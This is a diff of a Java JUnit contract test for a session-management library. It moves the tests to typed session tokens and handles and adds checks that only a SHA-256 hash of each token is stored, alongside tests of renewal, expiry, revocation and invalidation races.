@@ -3,94 +3,117 @@ package io.github.luciajooq;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
+import io.github.luciajooq.http.Cookie;
+import io.github.luciajooq.spi.Adapter;
+import io.github.luciajooq.spi.DatabaseSession;
+import io.github.luciajooq.spi.DatabaseSessionAndUser;
+import io.github.luciajooq.testing.Fixture;
 import io.github.luciajooq.testing.TestClock;
+import io.github.luciajooq.token.SessionHandle;
+import io.github.luciajooq.token.SessionToken;
+import io.github.luciajooq.token.TokenStorage;
 import java.time.Duration;
 import java.time.Instant;
 import java.util.HashSet;
 import java.util.List;
 import java.util.Optional;
-import java.util.Map;
 import java.util.Set;
 import java.util.function.Consumer;
-import java.util.stream.Stream;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
-import org.junit.jupiter.params.provider.Arguments;
-import org.junit.jupiter.params.provider.MethodSource;
+import org.junit.jupiter.params.provider.EnumSource;
 
 /**
- * The session manager's policy, on a real adapter: creation, validation with sliding renewal, expiry and
- * invalidation, with the clock moved. A subclass gives an adapter on tables where the user table has
- * {@code username TEXT} and the session table {@code ip TEXT} and {@code remembered BOOLEAN}.
+ * The session manager's policy, on a real adapter: creation, token storage, validation with sliding renewal,
+ * expiry and invalidation, with the clock moved. A subclass gives the adapter and its {@link Fixture}.
+ *
+ * @param <I> the type of user ids
+ * @param <U> the type of user attributes
+ * @param <S> the type of session attributes
  */
-public abstract class LuciaContract {
+public abstract class LuciaContract<I, U, S> {
 
     protected final TestClock clock = TestClock.standard();
 
     /** The store, to check what the session manager wrote. */
-    protected abstract Adapter adapter();
+    protected abstract Adapter<I, U, S> adapter();
 
-    protected abstract void insertUser(String id, String username);
+    protected abstract Fixture<I, U, S> fixture();
 
     /** {@link Lucia}'s operations, whichever session manager runs them. */
-    protected interface Manager {
-        Session createSession(String userId, Map<String, Object> attributes);
+    protected interface Manager<I, U, S> {
+        NewSession<I, S> createSession(I userId, S attributes);
 
-        Session createSession(String userId, Map<String, Object> attributes, String sessionId);
+        NewSession<I, S> createSession(I userId, S attributes, SessionToken token);
 
-        Optional<SessionAndUser> validateSession(String sessionId);
+        Optional<SessionAndUser<I, U, S>> validateSession(SessionToken token);
 
-        List<Session> getUserSessions(String userId);
+        List<Session<I, S>> getUserSessions(I userId);
 
-        void invalidateSession(String sessionId);
+        void invalidateSession(SessionToken token);
 
-        void invalidateUserSessions(String userId);
+        boolean invalidateSession(I userId, SessionHandle handle);
+
+        void invalidateUserSessions(I userId);
 
         long deleteExpiredSessions();
 
-        Cookie createSessionCookie(String sessionId);
+        Cookie createSessionCookie(SessionToken token);
     }
 
     /**
      * The session manager under test with these settings and {@link #clock}: by default {@link Lucia} on
      * {@link #adapter()}.
      */
-    protected Manager manager(Consumer<SessionManagerBuilder<?>> settings) {
-        Lucia.Builder builder = Lucia.builder(adapter()).clock(clock);
+    protected Manager<I, U, S> manager(Consumer<SessionManagerBuilder<?>> settings) {
+        Lucia.Builder<I, U, S> builder = Lucia.builder(adapter()).clock(clock);
         settings.accept(builder);
         return managing(builder.build());
     }
 
+    /**
+     * The session manager under test on {@link #adapter()}, through which another request signs every session out
+     * right after validation has read it: by default {@link Lucia} on {@link InvalidatedAfterRead}.
+     */
+    protected Manager<I, U, S> managerRacingInvalidation() {
+        return managing(Lucia.builder(new InvalidatedAfterRead<>(adapter())).clock(clock).build());
+    }
+
     /** {@link Lucia}'s operations as a {@link Manager}. */
-    protected static Manager managing(Lucia lucia) {
-        return new Manager() {
+    protected static <I, U, S> Manager<I, U, S> managing(Lucia<I, U, S> lucia) {
+        return new Manager<>() {
             @Override
-            public Session createSession(String userId, Map<String, Object> attributes) {
+            public NewSession<I, S> createSession(I userId, S attributes) {
                 return lucia.createSession(userId, attributes);
             }
 
             @Override
-            public Session createSession(String userId, Map<String, Object> attributes, String sessionId) {
-                return lucia.createSession(userId, attributes, sessionId);
+            public NewSession<I, S> createSession(I userId, S attributes, SessionToken token) {
+                return lucia.createSession(userId, attributes, token);
             }
 
             @Override
-            public Optional<SessionAndUser> validateSession(String sessionId) {
-                return lucia.validateSession(sessionId);
+            public Optional<SessionAndUser<I, U, S>> validateSession(SessionToken token) {
+                return lucia.validateSession(token);
             }
 
             @Override
-            public List<Session> getUserSessions(String userId) {
+            public List<Session<I, S>> getUserSessions(I userId) {
                 return lucia.getUserSessions(userId);
             }
 
             @Override
-            public void invalidateSession(String sessionId) {
-                lucia.invalidateSession(sessionId);
+            public void invalidateSession(SessionToken token) {
+                lucia.invalidateSession(token);
             }
 
             @Override
-            public void invalidateUserSessions(String userId) {
+            public boolean invalidateSession(I userId, SessionHandle handle) {
+                return lucia.invalidateSession(userId, handle);
+            }
+
+            @Override
+            public void invalidateUserSessions(I userId) {
                 lucia.invalidateUserSessions(userId);
             }
 
@@ -100,32 +123,90 @@ public abstract class LuciaContract {
             }
 
             @Override
-            public Cookie createSessionCookie(String sessionId) {
-                return lucia.createSessionCookie(sessionId);
+            public Cookie createSessionCookie(SessionToken token) {
+                return lucia.createSessionCookie(token);
             }
         };
     }
 
-    private Manager lucia() {
+    private Manager<I, U, S> lucia() {
         return manager(settings -> { });
     }
 
-    private Instant stored(String sessionId) {
-        return adapter().getSessionAndUser(sessionId).orElseThrow().session().expiresAt();
+    private I user(String name) {
+        return fixture().userId(name);
+    }
+
+    private void insertUser(String name, String username) {
+        fixture().insertUser(name, username);
+    }
+
+    private S none() {
+        return fixture().attributes(null, null);
+    }
+
+    private Instant stored(String key) {
+        return adapter().getSessionAndUser(key).orElseThrow().session().expiresAt();
+    }
+
+    private Instant stored(SessionToken token) {
+        return stored(TokenStorage.HASHED.storageKey(token));
     }
 
     @Test
-    void createSessionStoresAFreshSessionWithALuciaIdAndAThirtyDayExpiry() {
+    void createSessionStoresAFreshSessionWithALuciaTokenAndAThirtyDayExpiry() {
         insertUser("user-1", "ann");
 
-        Session session = lucia().createSession("user-1", Map.of("ip", "10.0.0.1"));
+        NewSession<I, S> created = lucia().createSession(user("user-1"), fixture().attributes("10.0.0.1", null));
 
-        assertThat(session.id()).matches("[a-z2-7]{40}");
-        assertThat(session.userId()).isEqualTo("user-1");
+        assertThat(created.token().value()).matches("[a-z2-7]{40}");
+        Session<I, S> session = created.session();
+        assertThat(session.handle()).isEqualTo(SessionHandle.of(created.token()));
+        assertThat(session.userId()).isEqualTo(user("user-1"));
         assertThat(session.fresh()).isTrue();
         assertThat(session.expiresAt()).isEqualTo(Instant.parse("2026-04-28T01:30:00.123Z"));
-        assertThat(session.attributes()).isEqualTo(Map.of("ip", "10.0.0.1"));
-        assertThat(stored(session.id())).isEqualTo(session.expiresAt());
+        assertThat(fixture().text(session.attributes())).isEqualTo("10.0.0.1");
+        assertThat(stored(created.token())).isEqualTo(session.expiresAt());
+    }
+
+    @Test
+    void theStoreHoldsTheTokensSha256AndNeverTheToken() {
+        insertUser("user-1", "ann");
+
+        SessionToken token = lucia().createSession(user("user-1"), none()).token();
+
+        String key = TokenStorage.HASHED.storageKey(token);
+        assertThat(key).matches("[0-9a-f]{64}").isEqualTo(SessionHandle.of(token).value());
+        assertThat(adapter().getSessionAndUser(key)).isPresent();
+        assertThat(adapter().getSessionAndUser(token.value())).isEmpty();
+        assertThat(adapter().getUserSessions(user("user-1"))).extracting(DatabaseSession::id).containsExactly(key);
+    }
+
+    @Test
+    void aStoredValueSentBackAsATokenMatchesNothing() {
+        insertUser("user-1", "ann");
+        SessionToken token = lucia().createSession(user("user-1"), none()).token();
+
+        SessionToken stolenFromTheTable = SessionToken.of(TokenStorage.HASHED.storageKey(token));
+
+        assertThat(lucia().validateSession(stolenFromTheTable)).isEmpty();
+        assertThat(lucia().validateSession(token)).isPresent();
+    }
+
+    @Test
+    void plainStorageKeepsTheTokenAsLuciaV3Does() {
+        insertUser("user-1", "ann");
+        Manager<I, U, S> plain = manager(settings -> settings.tokenStorage(TokenStorage.PLAIN));
+
+        NewSession<I, S> created = plain.createSession(user("user-1"), none());
+
+        assertThat(adapter().getSessionAndUser(created.token().value())).isPresent();
+        assertThat(created.session().handle()).isEqualTo(SessionHandle.of(created.token()));
+        assertThat(plain.validateSession(created.token())).hasValueSatisfying(valid ->
+                assertThat(valid.session().handle()).isEqualTo(created.session().handle()));
+        assertThat(plain.getUserSessions(user("user-1"))).extracting(Session::handle)
+                .containsExactly(created.session().handle());
+        assertThat(lucia().validateSession(created.token())).as("hashed storage looks for the hash").isEmpty();
     }
 
     @Test
@@ -133,255 +214,303 @@ public abstract class LuciaContract {
         insertUser("user-1", "ann");
         clock.set(Instant.parse("2026-01-01T00:00:00.123456789Z"));
 
-        Session session = lucia().createSession("user-1", Map.of());
+        NewSession<I, S> created = lucia().createSession(user("user-1"), none());
 
-        assertThat(session.expiresAt()).isEqualTo(Instant.parse("2026-01-31T00:00:00.123Z"));
-        assertThat(lucia().validateSession(session.id()).orElseThrow().session().expiresAt())
-                .isEqualTo(session.expiresAt());
+        assertThat(created.session().expiresAt()).isEqualTo(Instant.parse("2026-01-31T00:00:00.123Z"));
+        assertThat(lucia().validateSession(created.token()).orElseThrow().session().expiresAt())
+                .isEqualTo(created.session().expiresAt());
     }
 
     @Test
-    void createSessionGivesEverySessionANewId() {
+    void createSessionGivesEverySessionANewTokenAndHandle() {
         insertUser("user-1", "ann");
-        Set<String> ids = new HashSet<>();
+        Set<SessionToken> tokens = new HashSet<>();
+        Set<SessionHandle> handles = new HashSet<>();
         for (int index = 0; index < 200; index++) {
-            ids.add(lucia().createSession("user-1", Map.of()).id());
+            NewSession<I, S> created = lucia().createSession(user("user-1"), none());
+            tokens.add(created.token());
+            handles.add(created.session().handle());
         }
-        assertThat(ids).hasSize(200);
-        assertThat(lucia().getUserSessions("user-1")).hasSize(200);
+        assertThat(tokens).hasSize(200);
+        assertThat(handles).hasSize(200);
+        assertThat(lucia().getUserSessions(user("user-1"))).hasSize(200);
     }
 
     @Test
-    void createSessionWithAGivenIdUsesIt() {
+    void createSessionWithAGivenTokenUsesIt() {
         insertUser("user-1", "ann");
 
-        Session session = lucia().createSession("user-1", Map.of(), "my-own-id");
+        NewSession<I, S> created = lucia().createSession(user("user-1"), none(), SessionToken.of("my-own-token"));
 
-        assertThat(session.id()).isEqualTo("my-own-id");
-        assertThat(lucia().validateSession("my-own-id")).isPresent();
+        assertThat(created.token()).isEqualTo(SessionToken.of("my-own-token"));
+        assertThat(lucia().validateSession(SessionToken.of("my-own-token"))).isPresent();
     }
 
     @Test
     void createSessionForAnUnknownUserPassesTheAdaptersRefusalOnAndStoresNothing() {
-        assertThatThrownBy(() -> lucia().createSession("ghost", Map.of(), "s"))
-                .isInstanceOfSatisfying(SessionStoreException.class,
-                        refused -> assertThat(refused.reason()).isEqualTo(SessionStoreException.Reason.UNKNOWN_USER));
-        assertThat(adapter().getSessionAndUser("s")).isEmpty();
+        SessionToken token = SessionToken.of("s3cr3t-token");
+        assertThatThrownBy(() -> lucia().createSession(user("ghost"), none(), token))
+                .isInstanceOfSatisfying(SessionStoreException.class, refused ->
+                        assertThat(refused.reason()).isEqualTo(SessionStoreException.Reason.UNKNOWN_USER))
+                .hasMessageNotContaining("s3cr3t");
+        assertThat(lucia().validateSession(token)).isEmpty();
     }
 
     @Test
     void validateSessionWhenUnknownIsEmpty() {
-        assertThat(lucia().validateSession("no-such-session")).isEmpty();
+        assertThat(lucia().validateSession(SessionToken.of("no-such-session"))).isEmpty();
     }
 
     @Test
     void validateSessionWithMoreThanHalfTheLifetimeLeftIsNotFreshAndWritesNothing() {
         insertUser("user-1", "ann");
-        Session created = lucia().createSession("user-1", Map.of("ip", "10.0.0.1", "remembered", true));
+        NewSession<I, S> created = lucia().createSession(user("user-1"), fixture().attributes("10.0.0.1", true));
         clock.advance(Duration.ofDays(15).minusMillis(1));
 
-        SessionAndUser valid = lucia().validateSession(created.id()).orElseThrow();
+        SessionAndUser<I, U, S> valid = lucia().validateSession(created.token()).orElseThrow();
 
         assertThat(valid.session().fresh()).isFalse();
-        assertThat(valid.session().expiresAt()).isEqualTo(created.expiresAt());
-        assertThat(valid.session().attributes()).containsEntry("ip", "10.0.0.1").containsEntry("remembered", true);
-        assertThat(valid.user()).isEqualTo(new User("user-1", Map.of("username", "ann")));
-        assertThat(stored(created.id())).isEqualTo(created.expiresAt());
+        assertThat(valid.session().expiresAt()).isEqualTo(created.session().expiresAt());
+        assertThat(valid.session().handle()).isEqualTo(created.session().handle());
+        assertThat(fixture().text(valid.session().attributes())).isEqualTo("10.0.0.1");
+        assertThat(fixture().flag(valid.session().attributes())).isTrue();
+        assertThat(valid.user().id()).isEqualTo(user("user-1"));
+        assertThat(fixture().username(valid.user().attributes())).isEqualTo("ann");
+        assertThat(stored(created.token())).isEqualTo(created.session().expiresAt());
     }
 
     @Test
     void validateSessionWithHalfTheLifetimeLeftRenewsItToAFullLifetime() {
         insertUser("user-1", "ann");
-        Session created = lucia().createSession("user-1", Map.of());
+        NewSession<I, S> created = lucia().createSession(user("user-1"), none());
         clock.advance(Duration.ofDays(15));
 
-        Session renewed = lucia().validateSession(created.id()).orElseThrow().session();
+        Session<I, S> renewed = lucia().validateSession(created.token()).orElseThrow().session();
 
         assertThat(renewed.fresh()).isTrue();
         assertThat(renewed.expiresAt()).isEqualTo(clock.instant().plus(Duration.ofDays(30)));
-        assertThat(stored(created.id())).isEqualTo(renewed.expiresAt());
-        assertThat(lucia().validateSession(created.id()).orElseThrow().session().fresh()).isFalse();
+        assertThat(stored(created.token())).isEqualTo(renewed.expiresAt());
+        assertThat(lucia().validateSession(created.token()).orElseThrow().session().fresh()).isFalse();
     }
 
     @Test
     void validateSessionJustBeforeExpiryRenewsIt() {
         insertUser("user-1", "ann");
-        Session created = lucia().createSession("user-1", Map.of());
-        clock.set(created.expiresAt().minusMillis(1));
+        NewSession<I, S> created = lucia().createSession(user("user-1"), none());
+        clock.set(created.session().expiresAt().minusMillis(1));
 
-        Session renewed = lucia().validateSession(created.id()).orElseThrow().session();
+        Session<I, S> renewed = lucia().validateSession(created.token()).orElseThrow().session();
 
         assertThat(renewed.fresh()).isTrue();
-        assertThat(stored(created.id())).isEqualTo(created.expiresAt().minusMillis(1).plus(Duration.ofDays(30)));
+        assertThat(stored(created.token()))
+                .isEqualTo(created.session().expiresAt().minusMillis(1).plus(Duration.ofDays(30)));
     }
 
     @Test
     void validateSessionWhenExpiredDeletesIt() {
         insertUser("user-1", "ann");
-        Session created = lucia().createSession("user-1", Map.of());
-        clock.set(created.expiresAt());
+        NewSession<I, S> created = lucia().createSession(user("user-1"), none());
+        clock.set(created.session().expiresAt());
 
-        assertThat(lucia().validateSession(created.id())).isEmpty();
+        assertThat(lucia().validateSession(created.token())).isEmpty();
 
-        assertThat(adapter().getSessionAndUser(created.id())).isEmpty();
+        assertThat(adapter().getSessionAndUser(TokenStorage.HASHED.storageKey(created.token()))).isEmpty();
     }
 
     @Test
     void renewalThresholdSetsHowLittleLifetimeLeftTriggersRenewal() {
         insertUser("user-1", "ann");
-        Manager lucia = manager(settings -> settings.renewalThreshold(Duration.ofDays(1)));
-        Session created = lucia.createSession("user-1", Map.of());
+        Manager<I, U, S> lucia = manager(settings -> settings.renewalThreshold(Duration.ofDays(1)));
+        SessionToken token = lucia.createSession(user("user-1"), none()).token();
 
         clock.advance(Duration.ofDays(29).minusMillis(1));
-        assertThat(lucia.validateSession(created.id()).orElseThrow().session().fresh()).isFalse();
+        assertThat(lucia.validateSession(token).orElseThrow().session().fresh()).isFalse();
         clock.advance(Duration.ofMillis(1));
-        assertThat(lucia.validateSession(created.id()).orElseThrow().session().fresh()).isTrue();
+        assertThat(lucia.validateSession(token).orElseThrow().session().fresh()).isTrue();
     }
 
     @Test
     void renewalThresholdZeroNeverRenewsAndTheSessionExpires() {
         insertUser("user-1", "ann");
-        Manager lucia = manager(settings -> settings.renewalThreshold(Duration.ZERO));
-        Session created = lucia.createSession("user-1", Map.of());
+        Manager<I, U, S> lucia = manager(settings -> settings.renewalThreshold(Duration.ZERO));
+        NewSession<I, S> created = lucia.createSession(user("user-1"), none());
 
-        clock.set(created.expiresAt().minusMillis(1));
-        assertThat(lucia.validateSession(created.id()).orElseThrow().session().fresh()).isFalse();
-        clock.set(created.expiresAt());
-        assertThat(lucia.validateSession(created.id())).isEmpty();
+        clock.set(created.session().expiresAt().minusMillis(1));
+        assertThat(lucia.validateSession(created.token()).orElseThrow().session().fresh()).isFalse();
+        clock.set(created.session().expiresAt());
+        assertThat(lucia.validateSession(created.token())).isEmpty();
     }
 
     @Test
     void sessionLifetimeSetsTheExpiry() {
         insertUser("user-1", "ann");
-        Manager lucia = manager(settings -> settings.sessionLifetime(Duration.ofHours(1)));
+        Manager<I, U, S> lucia = manager(settings -> settings.sessionLifetime(Duration.ofHours(1)));
 
-        Session created = lucia.createSession("user-1", Map.of());
+        NewSession<I, S> created = lucia.createSession(user("user-1"), none());
 
-        assertThat(created.expiresAt()).isEqualTo(clock.instant().plus(Duration.ofHours(1)));
+        assertThat(created.session().expiresAt()).isEqualTo(clock.instant().plus(Duration.ofHours(1)));
         clock.advance(Duration.ofMinutes(30));
-        assertThat(lucia.validateSession(created.id()).orElseThrow().session().expiresAt())
+        assertThat(lucia.validateSession(created.token()).orElseThrow().session().expiresAt())
                 .isEqualTo(clock.instant().plus(Duration.ofHours(1)));
     }
 
     @Test
-    void getUserSessionsLeavesOutExpiredSessions() {
+    void getUserSessionsLeavesOutExpiredSessionsAndNamesEachByItsHandle() {
         insertUser("user-1", "ann");
-        Session old = lucia().createSession("user-1", Map.of());
+        NewSession<I, S> old = lucia().createSession(user("user-1"), none());
         clock.advance(Duration.ofDays(20));
-        Session recent = lucia().createSession("user-1", Map.of());
+        NewSession<I, S> recent = lucia().createSession(user("user-1"), fixture().attributes("10.0.0.2", null));
         clock.advance(Duration.ofDays(10));
 
-        assertThat(lucia().getUserSessions("user-1"))
+        assertThat(lucia().getUserSessions(user("user-1")))
                 .singleElement()
-                .satisfies(session -> assertThat(session.id()).isEqualTo(recent.id()))
-                .satisfies(session -> assertThat(session.fresh()).isFalse());
-        assertThat(adapter().getSessionAndUser(old.id())).isPresent();
+                .satisfies(session -> assertThat(session.handle()).isEqualTo(recent.session().handle()))
+                .satisfies(session -> assertThat(session.fresh()).isFalse())
+                .satisfies(session -> assertThat(fixture().text(session.attributes())).isEqualTo("10.0.0.2"));
+        assertThat(adapter().getSessionAndUser(TokenStorage.HASHED.storageKey(old.token()))).isPresent();
     }
 
     @Test
     void invalidateSessionDeletesOnlyThatSession() {
         insertUser("user-1", "ann");
-        Session first = lucia().createSession("user-1", Map.of());
-        Session second = lucia().createSession("user-1", Map.of());
+        SessionToken first = lucia().createSession(user("user-1"), none()).token();
+        SessionToken second = lucia().createSession(user("user-1"), none()).token();
 
-        lucia().invalidateSession(first.id());
+        lucia().invalidateSession(first);
 
-        assertThat(lucia().validateSession(first.id())).isEmpty();
-        assertThat(lucia().validateSession(second.id())).isPresent();
+        assertThat(lucia().validateSession(first)).isEmpty();
+        assertThat(lucia().validateSession(second)).isPresent();
+    }
+
+    @ParameterizedTest
+    @EnumSource(TokenStorage.class)
+    void invalidateSessionByHandleRevokesThatSessionOfThatUserOnly(TokenStorage storage) {
+        insertUser("user-1", "ann");
+        insertUser("user-2", "bob");
+        Manager<I, U, S> lucia = manager(settings -> settings.tokenStorage(storage));
+        NewSession<I, S> phone = lucia.createSession(user("user-1"), none());
+        NewSession<I, S> laptop = lucia.createSession(user("user-1"), none());
+        NewSession<I, S> other = lucia.createSession(user("user-2"), none());
+        SessionHandle phoneHandle = lucia.getUserSessions(user("user-1")).stream()
+                .map(Session::handle).filter(phone.session().handle()::equals).findFirst().orElseThrow();
+
+        assertThat(lucia.invalidateSession(user("user-1"), other.session().handle()))
+                .as("another user's handle revokes nothing").isFalse();
+        assertThat(lucia.invalidateSession(user("user-1"), phoneHandle)).isTrue();
+        assertThat(lucia.invalidateSession(user("user-1"), phoneHandle)).isFalse();
+
+        assertThat(lucia.validateSession(phone.token())).isEmpty();
+        assertThat(lucia.validateSession(laptop.token())).isPresent();
+        assertThat(lucia.validateSession(other.token())).isPresent();
+    }
+
+    @ParameterizedTest
+    @EnumSource(TokenStorage.class)
+    void aHandleIsNoCredential(TokenStorage storage) {
+        insertUser("user-1", "ann");
+        Manager<I, U, S> lucia = manager(settings -> settings.tokenStorage(storage));
+        NewSession<I, S> created = lucia.createSession(user("user-1"), none());
+
+        SessionToken handleAsToken = SessionToken.of(created.session().handle().value());
+
+        assertThat(lucia.validateSession(handleAsToken)).isEmpty();
+        assertThat(lucia.validateSession(created.token())).isPresent();
     }
 
     @Test
     void invalidateUserSessionsDeletesAllOfTheUsersSessions() {
         insertUser("user-1", "ann");
         insertUser("user-2", "bob");
-        lucia().createSession("user-1", Map.of());
-        lucia().createSession("user-1", Map.of());
-        Session other = lucia().createSession("user-2", Map.of());
+        lucia().createSession(user("user-1"), none());
+        lucia().createSession(user("user-1"), none());
+        SessionToken other = lucia().createSession(user("user-2"), none()).token();
 
-        lucia().invalidateUserSessions("user-1");
+        lucia().invalidateUserSessions(user("user-1"));
 
-        assertThat(lucia().getUserSessions("user-1")).isEmpty();
-        assertThat(lucia().validateSession(other.id())).isPresent();
+        assertThat(lucia().getUserSessions(user("user-1"))).isEmpty();
+        assertThat(lucia().validateSession(other)).isPresent();
     }
 
     @Test
-    void deleteExpiredSessionsDeletesWhatTheAdaptersClockSaysHasExpired() {
+    void deleteExpiredSessionsDeletesWhatTheSessionManagersClockSaysHasExpired() {
         insertUser("user-1", "ann");
-        lucia().createSession("user-1", Map.of());
+        lucia().createSession(user("user-1"), none());
         clock.advance(Duration.ofDays(20));
-        Session live = lucia().createSession("user-1", Map.of());
+        NewSession<I, S> live = lucia().createSession(user("user-1"), none());
         clock.advance(Duration.ofDays(10));
 
         assertThat(lucia().deleteExpiredSessions()).isEqualTo(1);
-        assertThat(adapter().getUserSessions("user-1")).extracting(DatabaseSession::id).containsExactly(live.id());
+        assertThat(adapter().getUserSessions(user("user-1"))).extracting(DatabaseSession::id)
+                .containsExactly(TokenStorage.HASHED.storageKey(live.token()));
     }
 
-    static Stream<Arguments> badCalls() {
-        return Stream.of(
-                bad("createSession(null, attributes)", lucia -> lucia.createSession(null, Map.of()), NullPointerException.class, "userId"),
-                bad("createSession(\" \", attributes)", lucia -> lucia.createSession(" ", Map.of()), IllegalArgumentException.class, "userId"),
-                bad("createSession(userId, null)", lucia -> lucia.createSession("user-1", null), NullPointerException.class, "attributes"),
-                bad("createSession(userId, {expires_at})", lucia -> lucia.createSession("user-1", Map.of("expires_at", 1)), IllegalArgumentException.class, "attributes"),
-                bad("createSession(userId, attributes, null)", lucia -> lucia.createSession("user-1", Map.of(), null), NullPointerException.class, "sessionId"),
-                bad("createSession(userId, attributes, \"\")", lucia -> lucia.createSession("user-1", Map.of(), ""), IllegalArgumentException.class, "sessionId"),
-                bad("createSession(userId, attributes, \"s3cr3t id\")", lucia -> lucia.createSession("user-1", Map.of(), "s3cr3t id"), IllegalArgumentException.class, "sessionId"),
-                bad("createSession(userId, attributes, 256 characters)", lucia -> lucia.createSession("user-1", Map.of(), "s3cr3t".repeat(43)), IllegalArgumentException.class, "sessionId"),
-                bad("validateSession(null)", lucia -> lucia.validateSession(null), NullPointerException.class, "sessionId"),
-                bad("getUserSessions(\"\")", lucia -> lucia.getUserSessions(""), IllegalArgumentException.class, "userId"),
-                bad("invalidateSession(null)", lucia -> lucia.invalidateSession(null), NullPointerException.class, "sessionId"),
-                bad("invalidateUserSessions(\"\")", lucia -> lucia.invalidateUserSessions(""), IllegalArgumentException.class, "userId"),
-                bad("createSessionCookie(\"\")", lucia -> lucia.createSessionCookie(""), IllegalArgumentException.class, "sessionId"));
-    }
-
-    private static Arguments bad(String call, Consumer<Manager> action, Class<? extends Exception> type, String argument) {
-        return Arguments.of(call, action, type, argument);
-    }
-
-    @ParameterizedTest(name = "{0}")
-    @MethodSource("badCalls")
-    void badArgumentsAreRefusedWithTheArgumentNamedAndWriteNothing(
-            String call, Consumer<Manager> action, Class<? extends Exception> type, String argument) {
+    @Test
+    void badArgumentsAreRefusedWithTheArgumentNamedAndWriteNothing() {
         insertUser("user-1", "ann");
-        Session kept = lucia().createSession("user-1", Map.of());
+        NewSession<I, S> kept = lucia().createSession(user("user-1"), none());
+        I user1 = user("user-1");
+        S none = none();
+        List<Object[]> calls = new java.util.ArrayList<>(List.of(
+                bad("createSession(null, attributes)", lucia -> lucia.createSession(null, none), NullPointerException.class, "userId"),
+                bad("createSession(userId, null)", lucia -> lucia.createSession(user1, null), NullPointerException.class, "attributes"),
+                bad("createSession(userId, attributes setting the id)", lucia -> lucia.createSession(user1, fixture().attributesSettingTheId()), IllegalArgumentException.class, "attributes"),
+                bad("createSession(userId, attributes, null)", lucia -> lucia.createSession(user1, none, null), NullPointerException.class, "token"),
+                bad("validateSession(null)", lucia -> lucia.validateSession(null), NullPointerException.class, "token"),
+                bad("getUserSessions(null)", lucia -> lucia.getUserSessions(null), NullPointerException.class, "userId"),
+                bad("invalidateSession(null)", lucia -> lucia.invalidateSession(null), NullPointerException.class, "token"),
+                bad("invalidateSession(userId, null)", lucia -> lucia.invalidateSession(user1, null), NullPointerException.class, "handle"),
+                bad("invalidateUserSessions(null)", lucia -> lucia.invalidateUserSessions(null), NullPointerException.class, "userId"),
+                bad("createSessionCookie(null)", lucia -> lucia.createSessionCookie(null), NullPointerException.class, "token")));
+        if (user1 instanceof String) {
+            calls.add(bad("createSession(\" \", attributes)", lucia -> lucia.createSession(textUserId(" "), none), IllegalArgumentException.class, "userId"));
+            calls.add(bad("getUserSessions(\"\")", lucia -> lucia.getUserSessions(textUserId("")), IllegalArgumentException.class, "userId"));
+        }
 
-        assertThatThrownBy(() -> action.accept(lucia())).isInstanceOf(type).hasMessageContaining(argument)
-                .hasMessageNotContaining("s3cr3t");
+        for (Object[] call : calls) {
+            @SuppressWarnings("unchecked")
+            Consumer<Manager<I, U, S>> action = (Consumer<Manager<I, U, S>>) call[1];
+            assertThatThrownBy(() -> action.accept(lucia())).as((String) call[0])
+                    .isInstanceOf((Class<?>) call[2]).hasMessageContaining((String) call[3])
+                    .hasMessageNotContaining("s3cr3t");
+        }
 
-        assertThat(adapter().getUserSessions("user-1")).extracting(DatabaseSession::id).containsExactly(kept.id());
-        assertThat(stored(kept.id())).isEqualTo(kept.expiresAt());
+        assertThat(adapter().getUserSessions(user1)).extracting(DatabaseSession::id)
+                .containsExactly(TokenStorage.HASHED.storageKey(kept.token()));
+        assertThat(stored(kept.token())).isEqualTo(kept.session().expiresAt());
     }
 
-    /**
-     * The session manager under test on {@link #adapter()}, through which another request signs every session out
-     * right after validation has read it: by default {@link Lucia} on {@link InvalidatedAfterRead}.
-     */
-    protected Manager managerRacingInvalidation() {
-        return managing(Lucia.builder(new InvalidatedAfterRead(adapter())).clock(clock).build());
+    @SuppressWarnings("unchecked")
+    private I textUserId(String text) {
+        return (I) text;
+    }
+
+    private Object[] bad(String call, Consumer<Manager<I, U, S>> action, Class<? extends Exception> type, String argument) {
+        return new Object[] {call, action, type, argument};
     }
 
     /** An adapter through which each session is deleted (by "another request") right after it is read. */
-    protected static final class InvalidatedAfterRead implements Adapter {
+    protected static final class InvalidatedAfterRead<I, U, S> implements Adapter<I, U, S> {
 
-        private final Adapter store;
+        private final Adapter<I, U, S> store;
 
-        public InvalidatedAfterRead(Adapter store) {
+        public InvalidatedAfterRead(Adapter<I, U, S> store) {
             this.store = store;
         }
 
         @Override
-        public Optional<DatabaseSessionAndUser> getSessionAndUser(String sessionId) {
-            Optional<DatabaseSessionAndUser> found = store.getSessionAndUser(sessionId);
+        public Optional<DatabaseSessionAndUser<I, U, S>> getSessionAndUser(String sessionId) {
+            Optional<DatabaseSessionAndUser<I, U, S>> found = store.getSessionAndUser(sessionId);
             store.deleteSession(sessionId);
             return found;
         }
 
         @Override
-        public List<DatabaseSession> getUserSessions(String userId) {
+        public List<DatabaseSession<I, S>> getUserSessions(I userId) {
             return store.getUserSessions(userId);
         }
 
         @Override
-        public void setSession(DatabaseSession session) {
+        public void setSession(DatabaseSession<I, S> session) {
             store.setSession(session);
         }
 
@@ -396,56 +525,36 @@ public abstract class LuciaContract {
         }
 
         @Override
-        public void deleteUserSessions(String userId) {
+        public void deleteUserSessions(I userId) {
             store.deleteUserSessions(userId);
         }
 
         @Override
-        public long deleteExpiredSessions() {
-            return store.deleteExpiredSessions();
+        public long deleteExpiredSessions(Instant now) {
+            return store.deleteExpiredSessions(now);
         }
     }
 
     @Test
     void validateSessionInvalidatedWhileBeingRenewedIsEmptyAndStaysDeleted() {
         insertUser("user-1", "ann");
-        Manager racing = managerRacingInvalidation();
-        Session created = racing.createSession("user-1", Map.of());
+        Manager<I, U, S> racing = managerRacingInvalidation();
+        SessionToken token = racing.createSession(user("user-1"), none()).token();
         clock.advance(Duration.ofDays(16));
 
-        assertThat(racing.validateSession(created.id())).isEmpty();
+        assertThat(racing.validateSession(token)).isEmpty();
 
-        assertThat(adapter().getSessionAndUser(created.id())).isEmpty();
+        assertThat(adapter().getSessionAndUser(TokenStorage.HASHED.storageKey(token))).isEmpty();
     }
 
     @Test
     void validateSessionInvalidatedWhileBeingReadWithoutRenewalIsStillTheReadSession() {
         insertUser("user-1", "ann");
-        Manager racing = managerRacingInvalidation();
-        Session created = racing.createSession("user-1", Map.of());
+        Manager<I, U, S> racing = managerRacingInvalidation();
+        SessionToken token = racing.createSession(user("user-1"), none()).token();
 
         // Read before the sign-out committed: as valid as if the request had come a moment earlier.
-        assertThat(racing.validateSession(created.id())).isPresent();
